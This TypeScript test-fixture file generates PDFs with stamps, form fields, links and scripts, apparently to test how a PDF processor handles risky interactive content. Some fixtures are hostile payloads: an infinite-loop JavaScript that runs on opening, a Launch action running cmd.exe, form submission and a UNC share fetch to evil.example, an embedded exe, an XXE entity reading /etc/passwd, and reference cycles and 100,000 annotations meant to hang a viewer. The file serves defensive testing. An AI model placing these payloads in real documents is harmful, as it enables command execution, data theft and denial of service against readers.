import { type Objects, pdfOfPage, words } from './write.ts'

const HELLO = words('Hello')
const form = (content: string, more = '') => ({
  dict: `/Type /XObject /Subtype /Form /BBox [0 0 612 792] ${more}`,
  data: content,
})
const annotated =
  (annotation: string, objects: Objects = {}) =>
  () =>
    pdfOfPage(HELLO, { page: `/Annots [${annotation}]`, objects })
const withCatalog =
  (catalog: string, objects: Objects = {}) =>
  () =>
    pdfOfPage(HELLO, { catalog, objects })

const JS = '<< /S /JavaScript /JS (app.alert\\("run"\\); while \\(true\\) {}) >>'

/** PDFs with stamps, forms, links and scripts. */
export const INTERACTIVE: Record<string, () => Uint8Array> = {
  'a stamp': annotated('10 0 R', {
    10: '<< /Type /Annot /Subtype /Stamp /Rect [100 100 300 200] /F 4 /AP << /N 11 0 R >> >>',
    11: { dict: '/Type /XObject /Subtype /Form /BBox [0 0 200 100]', data: '1 0 0 rg 0 0 200 100 re f' },
  }),
  'a signature': () =>
    pdfOfPage(HELLO, {
      catalog: '/AcroForm << /Fields [10 0 R] /SigFlags 3 >>',
      page: '/Annots [10 0 R]',
      objects: {
        10: '<< /Type /Annot /Subtype /Widget /FT /Sig /T (sig) /Rect [100 100 300 200] /F 4 /P 3 0 R /AP << /N 11 0 R >> >>',
        11: { dict: '/Type /XObject /Subtype /Form /BBox [0 0 200 100]', data: '0 0 1 rg 0 0 200 100 re f' },
      },
    }),
  'a field without an appearance': () =>
    pdfOfPage(HELLO, {
      catalog:
        '/AcroForm << /Fields [10 0 R] /NeedAppearances true /DA (/F 20 Tf 0 g) /DR << /Font << /F 5 0 R >> >> >>',
      page: '/Annots [10 0 R]',
      objects: {
        10: '<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (FILLED IN) /DA (/F 20 Tf 0 g) /Rect [100 100 300 140] /F 4 /P 3 0 R >>',
      },
    }),
  'a field with an appearance': () =>
    pdfOfPage(HELLO, {
      catalog: '/AcroForm << /Fields [10 0 R] >>',
      page: '/Annots [10 0 R]',
      objects: {
        10: '<< /Type /Annot /Subtype /Widget /FT /Tx /T (batch) /V (FILLED IN) /Rect [100 100 300 140] /F 4 /P 3 0 R /AP << /N 11 0 R >> >>',
        11: form('BT /F 20 Tf 0 6 Td (FILLED IN) Tj ET', '/Resources << /Font << /F 5 0 R >> >>'),
      },
    }),
  'a text box': annotated('10 0 R', {
    10: '<< /Type /Annot /Subtype /FreeText /Contents (FILLED IN) /Rect [100 100 300 140] /F 4 /AP << /N 11 0 R >> >>',
    11: form('BT /F 20 Tf 0 6 Td (FILLED IN) Tj ET', '/Resources << /Font << /F 5 0 R >> >>'),
  }),
  'a hidden field': () =>
    pdfOfPage(HELLO, {
      catalog: '/AcroForm << /Fields [10 0 R] >>',
      page: '/Annots [10 0 R]',
      objects: {
        10: '<< /Type /Annot /Subtype /Widget /FT /Tx /T (batch) /V (FILLED IN) /Rect [100 100 300 140] /F 2 /P 3 0 R /AP << /N 11 0 R >> >>',
        11: form('BT /F 20 Tf 0 6 Td (FILLED IN) Tj ET', '/Resources << /Font << /F 5 0 R >> >>'),
      },
    }),
  'an annotation that draws itself': annotated('10 0 R', {
    10: '<< /Type /Annot /Subtype /Stamp /Rect [0 0 300 300] /AP << /N 11 0 R >> >>',
    11: form('/X Do', '/Resources << /XObject << /X 11 0 R >> >>'),
  }),
  '100,000 annotations': () =>
    pdfOfPage(HELLO, {
      page: `/Annots [${'10 0 R '.repeat(100_000)}]`,
      objects: { 10: '<< /Type /Annot /Subtype /Square /Rect [0 0 300 300] /C [1 0 0] >>' },
    }),
  'fields in a cycle': withCatalog('/AcroForm << /Fields [10 0 R] >>', {
    10: '<< /T (a) /Kids [11 0 R] >>',
    11: '<< /T (b) /Parent 10 0 R /Kids [10 0 R] >>',
  }),
  'JavaScript that runs on opening': withCatalog(`/OpenAction ${JS}`),
  'JavaScript by name': withCatalog(`/Names << /JavaScript << /Names [(run) ${JS}] >> >>`),
  'JavaScript on a page': () => pdfOfPage(HELLO, { page: `/AA << /O ${JS} >>` }),
  'JavaScript behind a link': annotated(`<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A ${JS} >>`),
  'a javascript: link': annotated(
    '<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (javascript:document.title="run") >> >>',
  ),
  'a link elsewhere': annotated(
    '<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (https://evil.example/) >> >>',
  ),
  'a program to launch': withCatalog('/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>'),
  'a form to send': withCatalog('/OpenAction << /S /SubmitForm /F (https://evil.example/) >>'),
  'another file to open': withCatalog('/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0 /Fit] >>'),
  'an embedded file': withCatalog('/Names << /EmbeddedFiles << /Names [(a.exe) 10 0 R] >> >> /AF [10 0 R]', {
    10: '<< /Type /Filespec /F (a.exe) /UF (a.exe) /AFRelationship /Data /EF << /F 11 0 R >> >>',
    11: { dict: '/Type /EmbeddedFile', data: 'MZ\x90\0' },
  }),
  'a PDF/A': withCatalog(
    '/Metadata 10 0 R /OutputIntents [<< /Type /OutputIntent /S /GTS_PDFA1 /OutputConditionIdentifier (sRGB) >>]',
    { 10: { dict: '/Type /Metadata /Subtype /XML', data: '<x:xmpmeta xmlns:x="adobe:ns:meta/"/>' } },
  ),
  XFA: withCatalog('/AcroForm << /Fields [] /XFA [(template) 10 0 R] >>', {
    10: {
      dict: '',
      data: '<template xmlns="http://www.xfa.org/schema/xfa-template/3.0/"><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;</template>',
    },
  }),
  'hidden layers': () =>
    pdfOfPage(`/OC /L BDC ${HELLO} EMC`, {
      catalog: '/OCProperties << /OCGs [10 0 R] /D << /OFF [10 0 R] >> >>',
      resources: '/Properties << /L 10 0 R >>',
      objects: { 10: '<< /Type /OCG /Name (hidden) >>' },
    }),
  'an outline in a cycle': withCatalog('/Outlines 10 0 R', {
    10: '<< /First 11 0 R /Last 11 0 R /Count 1 >>',
    11: '<< /Title (a) /Parent 10 0 R /Next 11 0 R /First 10 0 R >>',
  }),
}
